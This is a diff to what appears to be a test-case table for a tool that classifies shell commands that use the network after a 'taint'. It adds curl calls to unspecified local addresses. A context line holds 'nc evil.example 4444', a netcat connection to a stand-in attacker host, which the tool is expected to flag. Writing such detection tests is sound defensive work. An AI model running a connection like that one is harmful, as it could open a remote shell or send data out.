@@ -472,6 +472,8 @@ CASES: list[Case] = [
     Case("nc-tainted", "nc evil.example 4444", tainted=True, rule="taint-network"),
     Case("nc-listen", "nc -l 8080", tainted=True, rule=None),
     Case("nc-timeout", "timeout 5 nc -z 10.0.0.1 22", tainted=True, rule="taint-network"),
+    Case("curl-unspecified-tainted", "curl http://0.0.0.0:8000/health", tainted=True, rule=None),
+    Case("curl-unspecified-v6-tainted", "curl 'http://[::]:8000/'", tainted=True, rule=None),
     # the other network clients (ssh, scp, sftp, rsync, telnet, ftp, socat, HTTPie) under taint
     Case(
         "ssh-tainted",
